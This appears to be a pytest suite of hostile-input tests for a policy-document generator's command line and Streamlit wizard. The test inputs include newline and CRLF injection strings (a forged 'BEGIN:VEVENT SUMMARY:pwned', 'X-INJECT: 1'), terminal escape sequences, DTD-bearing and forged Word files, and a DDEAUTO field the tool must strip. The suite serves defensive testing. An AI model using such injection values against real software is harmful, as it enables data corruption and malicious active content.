    Attack("update-two-sets-of-answers", _update(_two_answers), words=("several sets of embedded answers",)),
    Attack("update-xlsx-with-answers", _update(_not_a_word_file("xlsx")), words=("not a Word document",
                                                                                  "spreadsheet")),
    Attack("update-odt-with-answers", _update(_not_a_word_file("odt")), words=("OpenDocument",)),
    Attack("regenerate-xlsx-with-answers", _regenerate(_not_a_word_file("xlsx")), exit=2, words=("old.docx",)),
    # 6. a line break in the organisation's name or a role: refused at input, the field named
    Attack("kit-name-with-newline", lambda tmp, pack: [
        "generate", str(_profile_with(tmp, '"Compagnie Hostile"', '"Compagnie\\nBEGIN:VEVENT\\nSUMMARY:pwned"')),
        "-o", str(tmp / "kit"), "--kit", "--no-pdf", "--as-of", AS_OF, "--pack", str(pack)],
        words=("organisation.name", "line break")),
    Attack("role-with-newline", lambda tmp, pack: [
        "generate", str(_profile_with(tmp, "effective_date:", 'owner_role: "Direction\\r\\nX-INJECT: 1"\n  '
                                                              "effective_date:")),
        "-o", str(tmp / "policy.docx"), "--as-of", AS_OF, "--pack", str(pack)],
        words=("policy.owner_role", "line break")),
    # 7. no command writes over its own inputs
    Attack("diff-redline-over-old", _redline_over_old, words=("old.docx", "input"), check=_unchanged_old),
    Attack("generate-over-profile", lambda tmp, pack: [
        "generate", str(_profile_with(tmp, "", "")), "-o", str(tmp / "answers.yaml"), "--pack", str(pack)],
        words=("answers.yaml", "input")),
    Attack("generate-trace-over-policy", lambda tmp, pack: [
        "generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--trace", str(tmp / "policy.docx"),
        "--pack", str(pack)], words=("policy.docx", "input")),
    Attack("update-over-adopted", lambda tmp, pack: (_old_policy(tmp, pack), [
        "update", str(tmp / "old.docx"), "-o", str(tmp / "old.docx"), "--pack", str(pack)])[1],
        words=("old.docx", "input")),
    Attack("pack-build-into-pack", lambda tmp, pack: [
        "pack", "build", "--force", str(_copy_pack(tmp, pack)), "-o", str(tmp / "pack" / "pack.yaml")],
        words=("pack.yaml", "inside the pack")),
    # 9. terminal escape sequences from embedded answers, member file names, a pack's cases
    Attack("escapes-member-file-names", _escape_file_names, exit=1, check=_no_escape, seconds=45),
    Attack("escapes-case-description", _escape_case, exit=0, check=_no_escape, seconds=45),
    Attack("escapes-title-page", _update(_escape_title), exit=0, check=_no_escape),
    Attack("escapes-embedded-answers", _regenerate(_forged("control-chars")), check=_no_escape),
    # round 2's leftovers
    Attack("regenerate-embedded-pack-string", _regenerate(_forged("pack-is-a-string")), words=("pack",)),
    Attack("batch-utf16-csv", _csv_utf16, exit=0, check=_batch_named),
    Attack("batch-language-column", _csv_language, exit=1, check=_language_named),
    Attack("yaml-many-values-not-aliases", _many_values, words=("too many values",), check=_no_alias, seconds=60),
    Attack("output-name-300", lambda tmp, pack: [
        "generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / ("a" * 300 + ".docx")), "--pack", str(pack)],
        words=("file name too long",)),
]


@pytest.fixture(scope="module")
def mini_pack(tmp_path_factory) -> Path:
    target = tmp_path_factory.mktemp("pack") / "mini"
    shutil.copytree(HOSTILE / "pack", target)
    shutil.copy(ROOT / "policy_templates" / "reference.docx", target / "policy_templates" / "reference.docx")
    return target


@pytest.mark.parametrize("attack", [pytest.param(a, marks=pytest.mark.slow) if a.slow else a for a in ATTACKS],
                         ids=[a.id for a in ATTACKS])
def test_attack_is_held(attack: Attack, tmp_path: Path, mini_pack: Path):
    work = tmp_path / "work"
    work.mkdir()
    args = attack.build(work, mini_pack)
    result, seconds = run_capped(args, attack.seconds + float(os.environ.get("HOSTILE_GRACE", 30)))
    assert result is not None, f"still running after {seconds:.0f} s"
    err = result.stderr + result.stdout
    assert result.returncode == attack.exit, err[-3000:]
    assert "Traceback" not in err and "internal error" not in err, err[-3000:]
    assert seconds < attack.seconds, f"took {seconds:.1f} s: {err[-2000:]}"
    for word in attack.words:
        assert word.lower() in err.lower(), f"{word!r} not in: {err[-3000:]}"
    assert [str(p) for p in work.rglob("*") if p.name.endswith(".tmp")] == []
    if attack.exit == 2:
        assert not (work / "new.docx").exists() and not (work / "policy.docx").exists()
    for path in [p for p in work.rglob("*.docx") if p.parent.name in ("kit", "out", "updated")
                 or p.name in ("new.docx", "policy.docx")]:
        assert active_content(path) == [], path  # whatever was written holds nothing active
    if attack.check:
        attack.check(work, result)


# ---------------------------------------------------------------------------------------- concurrency, signals

def _batch_process(tmp: Path, rows: int, out: Path) -> subprocess.Popen:
    path = tmp / f"members-{rows}.csv"
    path.write_text("organisation.name,organisation.jurisdiction,organisation.sector,organisation.employees\n"
                    + "".join(f"Membre {i:03d},quebec,music,3\n" for i in range(rows)))
    env = {**os.environ, "BALISES_LANG": "en", "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, "-m", "balises", "batch", str(path), "-o", str(out), "--as-of", AS_OF,
                             "-j", "1"], cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_two_batches_into_one_folder_the_second_is_refused(tmp_path: Path):
    """Two batches into one folder interleaved (files of run B, report of run A), both exiting 0."""
    import time

    out = tmp_path / "out"
    first = _batch_process(tmp_path, 60, out)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not list(out.glob("*.docx")):
            assert first.poll() is None, first.communicate()
            time.sleep(0.05)
        second = _batch_process(tmp_path, 2, out)
        _, err = second.communicate(timeout=60)
        assert second.returncode == 2, err
        assert "another run is already writing into this folder" in err and "Traceback" not in err
    finally:
        first.kill()
        first.communicate()


# ---------------------------------------------------------------------------------------- the wizard's uploads

DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def _wizard():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.context["locale"] = "fr-CA"  # the interface follows the browser's language
    at.run()
    assert not at.exception, at.exception
    return at


def _give_adopted(at, data: bytes) -> None:
    """The review's update: the adopted policy, then the answers it uses (those saved in it)."""
    at.file_uploader(key="update_upload").set_value(("adopted.docx", data, DOCX_MIME)).run()
    at.radio(key="update_which").set_value("file").run()


@pytest.mark.parametrize("key", ["version-crlf", "pack-is-a-string", "units-not-a-list", "profile-is-a-string",
                                 "huge-number", "deep-json"])
def test_wizard_resume_from_a_forged_policy_shows_a_message(key: str, tmp_path: Path, mini_pack: Path):
    """Forged embedded answers showed Streamlit's error screen: the uploaders caught only Balises' errors."""
    pytest.importorskip("streamlit")
    path = _forged(key)(tmp_path, mini_pack)
    at = _wizard()
    at.file_uploader[0].set_value(("forged.docx", path.read_bytes(), DOCX_MIME)).run()
    assert not at.exception, at.exception
    assert any("forged.docx" in e.value for e in at.error), [e.value for e in at.error]


@pytest.mark.parametrize("make,words", [
    (_not_a_word_file("xlsx"), ("classeur",)), (_not_a_word_file("odt"), ("OpenDocument",)),
    (_forged("history-2000"), ("history",)), (_repeated(40_000), ("trop de paragraphes", "20000")),
    (_dtd_in_document("UTF-16"), ("DTD",))], ids=["xlsx", "odt", "history", "40k-paragraphs", "dtd"])
def test_wizard_update_of_a_hostile_policy_shows_a_message(make, words, tmp_path: Path, mini_pack: Path):
    pytest.importorskip("streamlit")
    path = make(tmp_path, mini_pack)
    at = _wizard()
    at.file_uploader[0].set_value(("answers.yaml", (HOSTILE / "valid.yaml").read_bytes(), "application/x-yaml")).run()
    _give_adopted(at, path.read_bytes())
    assert not at.exception, at.exception
    shown = "\n".join(e.value for e in at.error)
    assert "adopted.docx" in shown and all(w.lower() in shown.lower() for w in words), shown


def test_wizard_update_removes_and_says_what_it_removed(tmp_path: Path, mini_pack: Path):
    pytest.importorskip("streamlit")
    runs, rels, _ = OUTBOUND["ddeauto"]
    path = _adopted(tmp_path, mini_pack, runs, rels)
    at = _wizard()
    at.file_uploader[0].set_value(("answers.yaml", (HOSTILE / "valid.yaml").read_bytes(), "application/x-yaml")).run()
    _give_adopted(at, path.read_bytes())
    assert not at.exception, at.exception
    summary = "\n".join(m.value for m in at.markdown)  # the update said in plain words
    assert "retiré de votre document" in summary and "DDEAUTO" in summary, summary


def test_update_in_a_child_process_is_stopped_at_its_time_limit(tmp_path: Path, mini_pack: Path):
    """The wizard's update runs in a child process with a time limit: one slow upload cannot hold the server
    (316 s at 100 % CPU before, other users' pages ten times slower)."""
    import time

    from balises.errors import BalisesError
    from balises.services.isolated import update_isolated

    # about a second of work at most paragraphs allowed, stopped at a quarter of a second (the update has
    # become fast enough that 16,000 paragraphs fit in a second)
    data = _repeated(19_900)(tmp_path, mini_pack).read_bytes()
    start = time.monotonic()
    with pytest.raises(BalisesError, match=r"took more than 0\.25 s"):
        update_isolated(data, str(mini_pack), "adopted.docx", seconds=0.25)
    assert time.monotonic() - start < 10
